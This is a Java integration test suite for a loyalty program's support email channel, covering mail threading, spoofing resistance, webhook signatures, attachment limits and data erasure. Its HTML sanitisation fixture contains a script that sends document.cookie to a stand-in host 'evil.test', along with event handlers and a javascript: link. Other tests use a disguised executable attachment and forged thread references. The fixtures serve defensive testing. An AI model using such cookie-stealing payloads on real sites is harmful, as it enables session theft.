package io.loyaltydesk.support.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import io.loyaltydesk.IntegrationTest;
import io.loyaltydesk.members.Enrollment;
import io.loyaltydesk.members.Members;
import io.loyaltydesk.staff.Actor;
import io.loyaltydesk.staff.Role;
import io.loyaltydesk.support.Conversation;
import io.loyaltydesk.support.Conversations;
import io.loyaltydesk.support.InboundEmail;
import io.loyaltydesk.support.Message;
import io.loyaltydesk.support.TestMail;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * The email channel end to end against a real mail server (GreenMail): mail in over IMAP, the agent's reply out over
 * SMTP with the threading headers, the member's answer back into the same conversation, and the ways a mail must
 * not find a thread (forwarded, forged reference, subject token from a stranger), duplicates, automatic replies,
 * the webhook's signature, attachments and the desk's view of it all.
 */
class EmailChannelTest extends IntegrationTest {

    @Autowired
    Members members;

    @Autowired
    Conversations conversations;

    @Autowired
    InboundEmail inbound;

    @Autowired
    MailPolling polling;

    @Autowired
    MailOutbox outbox;

    @Autowired
    MailSigning signing;

    @Autowired
    JdbcClient jdbc;

    @BeforeEach
    void mailServer() {
        TestMail.server();
    }

    @Test
    void aMemberMailsInTheAgentRepliesAndTheMembersAnswerContinuesTheConversation() throws Exception {
        long n = unique();
        var email = "anna" + n + "@example.test";
        var memberId = enroll("Anna", email);
        var first = "<first-" + n + "@mail.example.test>";
        TestMail.deliver(mail(first, "Anna Berg <" + email + ">", TestMail.SUPPORT, "Points missing from Tuesday",
                "", "Hi,\n\nmy points for Tuesday's coffee are missing.\n\nAnna"));

        assertThat(polling.poll()).isGreaterThanOrEqualTo(1);
        var id = conversationOf(email);
        var opened = conversations.get(id);
        assertThat(opened.channel()).isEqualTo(Conversation.Channel.EMAIL);
        assertThat(opened.memberId()).as("matched to the member by email").isEqualTo(memberId);
        assertThat(opened.subject()).isEqualTo("Points missing from Tuesday");
        assertThat(conversations.messages(id).getFirst().body())
                .isEqualTo("Hi,\n\nmy points for Tuesday's coffee are missing.\n\nAnna");
        assertThat(polling.poll()).as("a mail read once is marked as seen").isZero();

        Actor.callAs(new Actor(Actor.Type.STAFF, null, "jonas", null),
                () -> conversations.reply(id, "Sorry! We added the 40 points.", null));
        assertThat(outbox.sendDue()).isGreaterThanOrEqualTo(1);
        var sent = TestMail.receivedBy(email);
        assertThat(sent).hasSize(1);
        var reply = sent.getFirst();
        assertThat(reply.getFrom()[0].toString()).contains(TestMail.SUPPORT);
        assertThat(reply.getSubject()).isEqualTo("Re: Points missing from Tuesday [#" + id + "]");
        assertThat(reply.getHeader("In-Reply-To", null)).isEqualTo(first);
        assertThat(reply.getHeader("References", null)).contains(first);
        var ourId = reply.getMessageID();
        assertThat(signing.conversationOfMessageId(ourId)).as("our signed Message-ID").contains(id);
        var replyTo = reply.getReplyTo()[0].toString();
        assertThat(replyTo).startsWith("support+c" + id + "-").endsWith("@loyaltydesk.test");
        assertThat(((String) reply.getContent()).strip()).isEqualTo("Sorry! We added the 40 points.");
        assertThat(outbox.sendDue()).as("sent once").isZero();

        TestMail.deliver(mail("<answer-" + n + "@mail.example.test>", email, replyTo,
                "Re: Points missing from Tuesday [#" + id + "]",
                "In-Reply-To: " + ourId + "\r\nReferences: " + first + " " + ourId + "\r\n",
                "Thank you!\n\nOn Tue, 24 Nov 2026 at 10:00, Loyalty Desk wrote:\n> Sorry! We added the 40 points."));
        polling.poll();
        assertThat(conversationsOf(email)).as("no second conversation").containsExactly(id);
        var fromMember = memberLines(id);
        assertThat(fromMember).hasSize(2);
        assertThat(fromMember.getLast().body()).as("the quoted mail is cut off").isEqualTo("Thank you!");
    }

    @Test
    void aForwardedMailFromSomeoneElseOpensANewConversation() {
        long n = unique();
        var email = "ben" + n + "@example.test";
        enroll("Ben", email);
        var first = receive(mail("<f1-" + n + "@example.test>", email, TestMail.SUPPORT, "Card lost", "", "I lost it"));
        long id = first.conversationId();
        var ourId = replyAndSend(id, "We blocked the card.");

        var colleague = "assistant" + n + "@example.test";
        var forwarded = receive(mail("<f2-" + n + "@example.test>", colleague, TestMail.SUPPORT,
                "Fwd: Re: Card lost [#" + id + "]", "References: <f1-" + n + "@example.test> " + ourId + "\r\n",
                "---------- Forwarded message ---------\nWe blocked the card."));
        assertThat(forwarded.outcome()).isEqualTo(InboundEmail.Outcome.OPENED);
        assertThat(forwarded.conversationId()).isNotEqualTo(id);
        assertThat(conversations.get(forwarded.conversationId()).contactEmail()).isEqualTo(colleague);
        assertThat(memberLines(id)).hasSize(1);
    }

    @Test
    void aDuplicateIsDropped() {
        long n = unique();
        var raw = mail("<dup-" + n + "@example.test>", "dup" + n + "@example.test", TestMail.SUPPORT, "Twice", "",
                "Sent twice by my phone");
        var first = receive(raw);
        assertThat(first.outcome()).isEqualTo(InboundEmail.Outcome.OPENED);
        assertThat(receive(raw).outcome()).isEqualTo(InboundEmail.Outcome.DUPLICATE);
        TestMail.deliver(raw);
        polling.poll();
        assertThat(conversationsOf("dup" + n + "@example.test")).containsExactly(first.conversationId());
        assertThat(memberLines(first.conversationId())).hasSize(1);
    }

    @Test
    void aForgedReferenceOrASubjectTokenFromAStrangerFindsNoThread() {
        long n = unique();
        var victim = "victim" + n + "@example.test";
        long id = receive(mail("<v1-" + n + "@example.test>", victim, TestMail.SUPPORT, "My voucher", "",
                "Voucher code does not scan")).conversationId();
        var forged = "<ld." + id + ".abc." + "0".repeat(24) + "@loyaltydesk.test>";

        // even with the victim's address as From, a reference whose signature does not hold is no way in
        var spoofed = receive(mail("<v2-" + n + "@example.test>", victim, TestMail.SUPPORT, "Re: My voucher",
                "In-Reply-To: " + forged + "\r\nReferences: " + forged + "\r\n", "Send the voucher to me"));
        assertThat(spoofed.outcome()).isEqualTo(InboundEmail.Outcome.OPENED);
        assertThat(spoofed.conversationId()).isNotEqualTo(id);

        var plus = "support+c" + id + "-" + "f".repeat(24) + "@loyaltydesk.test";
        var stranger = receive(mail("<v3-" + n + "@example.test>", "mallory" + n + "@example.test", plus,
                "Re: My voucher [#" + id + "]", "", "Please change the email of this account"));
        assertThat(stranger.conversationId()).as("a stranger's subject token is not trusted").isNotEqualTo(id);

        var contact = receive(mail("<v4-" + n + "@example.test>", victim, TestMail.SUPPORT, "Still waiting [#" + id
                + "]", "", "Any news?"));
        assertThat(contact.outcome()).as("the contact's own subject token is").isEqualTo(InboundEmail.Outcome.THREADED);
        assertThat(contact.conversationId()).isEqualTo(id);
    }

    @Test
    void automaticRepliesAndBouncesNeitherReopenNorAnswer() {
        long n = unique();
        var email = "away" + n + "@example.test";
        long id = receive(mail("<a1-" + n + "@example.test>", email, TestMail.SUPPORT, "Tier question", "",
                "When do I reach Gold?")).conversationId();
        var ourId = replyAndSend(id, "At 2,000 points.");
        Actor.callAs(Actor.system("test"), () -> conversations.changeStatus(id, Conversation.Status.SOLVED));

        var away = receive(mail("<a2-" + n + "@example.test>", email, TestMail.SUPPORT, "Out of office",
                "In-Reply-To: " + ourId + "\r\nAuto-Submitted: auto-replied\r\n", "I am away until Monday."));
        assertThat(away.outcome()).isEqualTo(InboundEmail.Outcome.AUTO_REPLY);
        assertThat(conversations.get(id).status()).isEqualTo(Conversation.Status.SOLVED);
        assertThat(conversations.messages(id).getLast().kind()).isEqualTo(Message.Kind.NOTE);
        assertThat(outbox.sendDue()).as("nothing is sent back to a machine").isZero();

        var bulk = receive(mail("<a3-" + n + "@example.test>", "news" + n + "@example.test", TestMail.SUPPORT,
                "Our newsletter", "Precedence: bulk\r\n", "Ten tips"));
        assertThat(bulk.outcome()).isEqualTo(InboundEmail.Outcome.IGNORED);
        var bounce = receive(mail("<a4-" + n + "@example.test>", "MAILER-DAEMON@mx.example.test", TestMail.SUPPORT,
                "Undelivered Mail Returned to Sender", "", "The mail could not be delivered."));
        assertThat(bounce.outcome()).isEqualTo(InboundEmail.Outcome.IGNORED);
        assertThat(receive(mail("<a5-" + n + "@example.test>", TestMail.SUPPORT, TestMail.SUPPORT, "Loop", "",
                "our own")).outcome()).isEqualTo(InboundEmail.Outcome.IGNORED);
    }

    @Test
    void theWebhookTakesSignedMailAndRefusesTheRest() throws Exception {
        long n = unique();
        var email = "hook" + n + "@example.test";
        var raw = mail("<h1-" + n + "@example.test>", email, TestMail.SUPPORT, "Via webhook", "", "Hello")
                .getBytes(StandardCharsets.UTF_8);

        mvc.perform(post("/webhooks/mail/inbound").contentType("message/rfc822").content(raw)
                        .header("X-LoyaltyDesk-Signature", "sha256=" + "ab".repeat(32)))
                .andExpect(status().isUnauthorized())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                .andExpect(jsonPath("$.type").value("/problems/bad-signature"));
        mvc.perform(post("/webhooks/mail/inbound").contentType("message/rfc822").content(raw))
                .andExpect(status().isUnauthorized());
        assertThat(conversationsOf(email)).as("nothing taken from an unsigned post").isEmpty();

        var signature = HexFormat.of().formatHex(MailSigning.hmac(
                TestMail.WEBHOOK_SECRET.getBytes(StandardCharsets.UTF_8), raw));
        mvc.perform(post("/webhooks/mail/inbound").contentType("message/rfc822").content(raw)
                        .header("X-LoyaltyDesk-Signature", "sha256=" + signature))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.outcome").value("OPENED"));
        mvc.perform(post("/webhooks/mail/inbound").contentType("message/rfc822").content(raw)
                        .header("X-LoyaltyDesk-Signature", "sha256=" + signature))
                .andExpect(jsonPath("$.outcome").value("DUPLICATE"));
        var junk = "not a mail at all".getBytes(StandardCharsets.UTF_8);
        mvc.perform(post("/webhooks/mail/inbound").contentType("message/rfc822").content(junk)
                        .header("X-LoyaltyDesk-Signature", "sha256=" + HexFormat.of().formatHex(MailSigning.hmac(
                                TestMail.WEBHOOK_SECRET.getBytes(StandardCharsets.UTF_8), junk))))
                .andExpect(status().isBadRequest())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON));
        assertThat(conversationsOf(email)).hasSize(1);
    }

    @Test
    void attachmentsAreKeptWithinTheLimitsAndOnlyStaffOnTheDeskDownloadThem() throws Exception {
        long n = unique();
        var email = "files" + n + "@example.test";
        var pdf = "%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
        var raw = multipart("<att-" + n + "@example.test>", email, "Receipt attached", List.of(
                part("text/plain; charset=utf-8", null, "Here is my receipt.".getBytes(StandardCharsets.UTF_8)),
                part("application/pdf", "receipt.pdf", pdf),
                part("application/x-msdownload", "points-hack.exe", "MZ\u0090\u0000".getBytes(StandardCharsets.ISO_8859_1)),
                part("image/png", "photo.png", "<script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII))));
        long id = receive(raw).conversationId();

        var files = jdbc.sql("select id, file_name, refused_reason from support_email_attachments "
                        + "where conversation_id = :c order by id")
                .param("c", id).query((rs, row) -> Map.entry(rs.getString(2), rs.getString(3) == null ? ""
                        : rs.getString(3) + "#" + rs.getLong(1))).list();
        assertThat(files).extracting(Map.Entry::getKey).containsExactly("receipt.pdf", "points-hack.exe", "photo.png");
        assertThat(files.get(0).getValue()).isEmpty();
        assertThat(files.get(1).getValue()).startsWith("type application/x-msdownload is not accepted");
        assertThat(files.get(2).getValue()).startsWith("content is not image/png");
        long pdfId = jdbc.sql("select id from support_email_attachments where conversation_id = :c and file_name = "
                + "'receipt.pdf'").param("c", id).query(Long.class).single();
        long pngId = Long.parseLong(files.get(2).getValue().substring(files.get(2).getValue().indexOf('#') + 1));

        mvc.perform(get("/desk/conversations/" + id + "/attachments/" + pdfId).with(staff(Role.AGENT)))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Disposition", org.hamcrest.Matchers.startsWith(
                        "attachment; filename=\"receipt.pdf\"")))
                .andExpect(header().string("X-Content-Type-Options", "nosniff"))
                .andExpect(content().bytes(pdf));
        mvc.perform(get("/desk/conversations/" + id + "/attachments/" + pdfId).with(staff(Role.STORE_STAFF)))
                .andExpect(status().isForbidden());
        mvc.perform(get("/desk/conversations/" + id + "/attachments/" + pngId).with(staff(Role.AGENT)))
                .andExpect(status().isNotFound());
        mvc.perform(get("/desk/conversations/" + (id + 100_000) + "/attachments/" + pdfId).with(staff(Role.AGENT)))
                .andExpect(status().isNotFound());

        var page = mvc.perform(get("/desk/conversations/" + id).with(staff(Role.AGENT)))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat(page).contains(email, TestMail.SUPPORT, "receipt.pdf",
                "/desk/conversations/" + id + "/attachments/" + pdfId, "Not kept: type application/x-msdownload");
    }

    @Test
    void anAttachmentOverTheSizeLimitIsListedButNotKept() {
        var raw = multipart("<big@example.test>", "big@example.test", "Big", List.of(
                part("text/plain", null, "see attached".getBytes(StandardCharsets.US_ASCII)),
                part("application/pdf", "scan.pdf", ("%PDF-" + "x".repeat(2_000)).getBytes(StandardCharsets.US_ASCII))));
        var parsed = ParsedMail.parse(raw.getBytes(StandardCharsets.UTF_8), 1_000);
        var scan = parsed.attachments().getFirst();
        assertThat(scan.content()).isNull();
        assertThat(scan.sizeBytes()).isEqualTo(2_005);
        var limits = new SupportMailProperties(TestMail.SUPPORT, "Support", null, null,
                org.springframework.util.unit.DataSize.ofMegabytes(25),
                org.springframework.util.unit.DataSize.ofBytes(1_000), List.of("application/pdf"), 8);
        assertThat(new MailIntake(null, null, null, null, limits, null).refusal(scan)).isEqualTo("larger than 0 MB");
    }

    @Test
    void anHtmlMailReachesTheDeskAsTextAndItsSanitisedHtmlRunsNothing() throws Exception {
        long n = unique();
        var email = "html" + n + "@example.test";
        var html = "<html><head><style>body{background:url(https://evil.test/x)}</style>"
                + "<script>fetch('https://evil.test/'+document.cookie)</script></head><body onload=\"steal()\">"
                + "<p>My <b>points</b> are gone!</p><img src=\"https://tracker.test/pixel.gif\">"
                + "<a href=\"javascript:alert(1)\">click</a> <a href=\"https://example.test/help\">help</a>"
                + "<div style=\"position:fixed\" onclick=\"x()\">Thanks</div></body></html>";
        var raw = multipart("<html-" + n + "@example.test>", email, "HTML only", List.of(
                part("text/html; charset=utf-8", null, html.getBytes(StandardCharsets.UTF_8))));
        long id = receive(raw).conversationId();
        assertThat(conversations.messages(id).getFirst().body()).isEqualTo("My points are gone!\nclick help\nThanks");

        long emailId = jdbc.sql("select id from support_emails where conversation_id = :c").param("c", id)
                .query(Long.class).single();
        var shown = mvc.perform(get("/desk/conversations/" + id + "/emails/" + emailId + "/html").with(staff(Role.AGENT)))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Security-Policy", DeskMail.HTML_POLICY))
                .andReturn().getResponse().getContentAsString();
        assertThat(shown).contains("<b>points</b>", "href=\"https://example.test/help\"")
                .doesNotContainIgnoringCase("script").doesNotContain("onload", "onclick", "style", "<img",
                        "javascript:", "evil.test", "tracker.test");
    }

    @Test
    void erasingTheMemberErasesTheirMailsAndFiles() throws Exception {
        long n = unique();
        var email = "erase" + n + "@example.test";
        long memberId = enroll("Pia", email);
        long id = receive(multipart("<erase-" + n + "@example.test>", email, "My new address", List.of(
                part("text/html; charset=utf-8", null, "<p>Hauptstr. 1</p>".getBytes(StandardCharsets.UTF_8)),
                part("application/pdf", "contract.pdf", "%PDF-1.4 x".getBytes(StandardCharsets.US_ASCII)))))
                .conversationId();
        Actor.callAs(Actor.system("test"),
                () -> members.erase(new io.loyaltydesk.members.MemberId(memberId), "request #2"));
        long deadline = System.nanoTime() + java.time.Duration.ofSeconds(10).toNanos();
        while (System.nanoTime() < deadline && !"[erased]".equals(jdbc.sql(
                "select subject from support_emails where conversation_id = :c").param("c", id)
                .query(String.class).single())) {
            Thread.sleep(50);
        }
        assertThat(jdbc.sql("select from_address || '|' || subject || '|' || (html is null) from support_emails "
                + "where conversation_id = :c").param("c", id).query(String.class).single())
                .isEqualTo("[erased]|[erased]|true");
        assertThat(jdbc.sql("select count(*) from support_email_attachments where conversation_id = :c and "
                + "(content is not null or file_name <> '[erased]')").param("c", id).query(Long.class).single())
                .isZero();
    }

    // ---- helpers

    private long enroll(String firstName, String email) {
        return Actor.callAs(Actor.system("test"), () -> members.enroll(new Enrollment(firstName, "Berg", email, null,
                null, null, null, null, null, Map.of(), "test", null)).id().value());
    }

    private InboundEmail.Received receive(String raw) {
        return inbound.receive(raw.getBytes(StandardCharsets.UTF_8));
    }

    private String replyAndSend(long id, String text) {
        Actor.callAs(new Actor(Actor.Type.STAFF, null, "jonas", null), () -> conversations.reply(id, text, null));
        outbox.sendDue();
        return jdbc.sql("select rfc_message_id from support_emails where conversation_id = :c and direction = 'OUT' "
                + "order by id desc limit 1").param("c", id).query(String.class).single();
    }

    private long conversationOf(String email) {
        return conversationsOf(email).getFirst();
    }

    private List<Long> conversationsOf(String email) {
        return jdbc.sql("select id from conversations where contact_email = :e order by id").param("e", email)
                .query(Long.class).list();
    }

    private List<Message> memberLines(long id) {
        return conversations.messages(id).stream().filter(m -> m.kind() == Message.Kind.FROM_MEMBER).toList();
    }

    static String mail(String messageId, String from, String to, String subject, String extraHeaders, String text) {
        return "Message-ID: " + messageId + "\r\nFrom: " + from + "\r\nTo: " + to + "\r\nSubject: " + subject
                + "\r\nDate: Tue, 24 Nov 2026 09:00:00 +0100\r\nMIME-Version: 1.0\r\n" + extraHeaders
                + "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
                + text.replace("\n", "\r\n") + "\r\n";
    }

    record Part(String type, String fileName, byte[] content) {
    }

    static Part part(String type, String fileName, byte[] content) {
        return new Part(type, fileName, content);
    }

    static String multipart(String messageId, String from, String subject, List<Part> parts) {
        var boundary = "b-" + Math.abs(messageId.hashCode());
        var out = new StringBuilder("Message-ID: " + messageId + "\r\nFrom: " + from + "\r\nTo: " + TestMail.SUPPORT
                + "\r\nSubject: " + subject + "\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\""
                + boundary + "\"\r\n\r\n");
        for (var part : parts) {
            out.append("--").append(boundary).append("\r\nContent-Type: ").append(part.type()).append("\r\n");
            if (part.fileName() != null) {
                out.append("Content-Disposition: attachment; filename=\"").append(part.fileName()).append("\"\r\n");
            }
            out.append("Content-Transfer-Encoding: base64\r\n\r\n")
                    .append(Base64.getMimeEncoder().encodeToString(part.content())).append("\r\n");
        }
        return out.append("--").append(boundary).append("--\r\n").toString();
    }

}
